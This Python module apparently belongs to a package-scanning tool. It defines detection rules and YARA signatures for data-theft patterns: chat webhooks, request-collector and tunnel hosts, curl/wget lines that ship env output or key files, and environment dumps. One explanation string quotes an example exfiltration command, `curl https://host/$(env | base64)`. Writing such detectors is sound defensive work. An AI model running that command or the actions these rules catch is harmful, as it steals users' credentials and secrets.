"""Content rules: where stolen data is sent (webhooks, collector hosts) and what is dumped.

The YARA rules below run (compiled once, with every module's) on each text file and on
payloads decoded statically; each reports its rule id in `meta: id`."""

from __future__ import annotations

from .base import Rule

RULES = (
    Rule(
        id="CNT-EXFIL-WEBHOOK",
        title="Hard-coded chat webhook or bot endpoint (Discord, Slack, Telegram)",
        category="exfiltration",
        severity="critical",
        explanation=(
            "A webhook URL with its secret baked into a library is a ready-made drop box for "
            "stolen data. Check what is posted to it."
        ),
        strong=True,
    ),
    Rule(
        id="CNT-EXFIL-OAST",
        title="Out-of-band, paste, tunnel or request-collector host",
        category="exfiltration",
        severity="medium",
        explanation=(
            "Hosts that collect requests (interaction servers, request bins, paste sites, "
            "tunnels) are where probes and stealers send data. A library has no reason to "
            "call them."
        ),
    ),
    Rule(
        id="CNT-SHELL-EXFIL",
        title="A command line sends the machine's environment, identity or keys",
        category="exfiltration",
        severity="critical",
        explanation=(
            "curl or wget with the output of env, whoami, id or a key file substituted "
            "into the request (`curl https://host/$(env | base64)`) ships that data to the "
            "host the moment the command runs. No build or setup step needs to."
        ),
        strong=True,
    ),
    Rule(
        id="CNT-ENV-DUMP",
        title="Serialises the whole environment",
        category="exfiltration",
        severity="medium",
        explanation=(
            "The environment holds tokens and keys (CI secrets, cloud credentials). Dumping "
            "all of it is harvesting; a library reads the variables it needs by name."
        ),
    ),
)

YARA = r"""
rule webhook_discord {
  meta: id = "CNT-EXFIL-WEBHOOK"
  strings:
    $hook = /discord(app)?\.com\/api\/(v\d+\/)?webhooks\/[0-9]{15,22}\/[A-Za-z0-9_\-]{30,}/
    $client = /(WebhookClient|Webhook\.partial)\(\s*(id\s*[:=]\s*)?[\x27\x22]?[0-9]{15,22}[\x27\x22]?\s*,\s*(token\s*[:=]\s*)?[\x27\x22][A-Za-z0-9_\-]{50,}[\x27\x22]/
  condition: $hook or $client
}

rule webhook_slack {
  meta: id = "CNT-EXFIL-WEBHOOK"
  strings:
    $hook = /hooks\.slack\.com\/services\/T[A-Z0-9]{6,}\/B[A-Z0-9]{6,}\/[A-Za-z0-9]{16,}/
    $x_placeholder = /services\/T0{6,}\/B0{6,}\/X{8,}/
  condition: #hook > #x_placeholder
}

rule telegram_bot {
  meta: id = "CNT-EXFIL-WEBHOOK"
  strings:
    $api = /api\.telegram\.org\/bot[0-9]{6,12}:[A-Za-z0-9_\-]{30,}/
    $token = /[\x27\x22][0-9]{8,12}:AA[A-Za-z0-9_\-]{30,40}[\x27\x22]/
    $host = "api.telegram.org"
    $send = /send(Message|Document|Photo)/
  condition: $api or ($token and $host and $send)
}

rule oast_hosts {
  meta: id = "CNT-EXFIL-OAST"
  strings:
    $a = /[a-z0-9\-]+\.(burpcollaborator\.net|oastify\.com|oast\.[a-z]{2,6}|interact\.sh|interactsh\.com)\b/ nocase
    $b = /[a-z0-9\-]+\.(m\.pipedream\.net|requestcatcher\.com|requestbin\.(net|com)|free\.beeceptor\.com|ngrok(-free)?\.(io|app|dev)|trycloudflare\.com|serveo\.net|loca\.lt)/ nocase
    $e = /[a-z0-9]{12,}\.mockapi\.io|[a-z0-9\-]+\.(glitch\.me|repl\.co|replit\.dev)\b|[a-z2-7]{16,56}\.onion\b/ nocase
    $c = /(webhook\.site\/[0-9a-f\-]{36}|dnslog\.cn|ceye\.io|canarytokens\.com\/|requestrepo\.com|eo[a-z0-9]{10,}\.m\.pipedream)/ nocase
    $d = /(pastebin\.com\/raw|paste\.ee\/r\/|hastebin\.com\/raw|rentry\.(co|org)\/[a-z0-9]+\/raw|transfer\.sh\/|0x0\.st\/|bashupload\.com|file\.io\/|anonfiles\.com|gofile\.io\/|temp\.sh\/)/ nocase
  condition: any of them
}

rule shell_exfil {
  meta: id = "CNT-SHELL-EXFIL"
  strings:
    $subst = /\b(curl|wget)\b[^\n]{0,200}(\$\(|`) *(env|printenv|whoami|id|cat +[^)`\n]{0,40}(\.ssh|\.aws|\.npmrc|\.pypirc|\.netrc|\/etc\/passwd|\.git-credentials))\b[^)`\n]{0,60}[)`]/
    $post_env = /\b(env|printenv)( *\| *[a-z0-9 -]{1,40}){0,3} *\| *curl\b[^\n]{0,120}(-d *@-|--data(-binary|-raw)? *@-|-T *-|--upload-file *-)/
  condition: any of them
}

rule env_dump {
  meta: id = "CNT-ENV-DUMP"
  strings:
    $py1 = /json\.dumps\(\s*(dict\()?os\.environ\b/
    $py2 = /\b(str|repr)\(os\.environ\)/
    $py2_searched = /\bin\s+(str|repr)\(os\.environ\)/
    $js1 = /JSON\.stringify\(\s*process\.env\s*[,)]/
    $js2 = /Object\.(entries|keys|assign)\(\s*(\{\}\s*,\s*)?process\.env\s*\)/
    $js3 = /\bbtoa\(\s*JSON\.stringify\(process\.env/
  condition: $py1 or #py2 > #py2_searched or any of ($js*)
}
"""
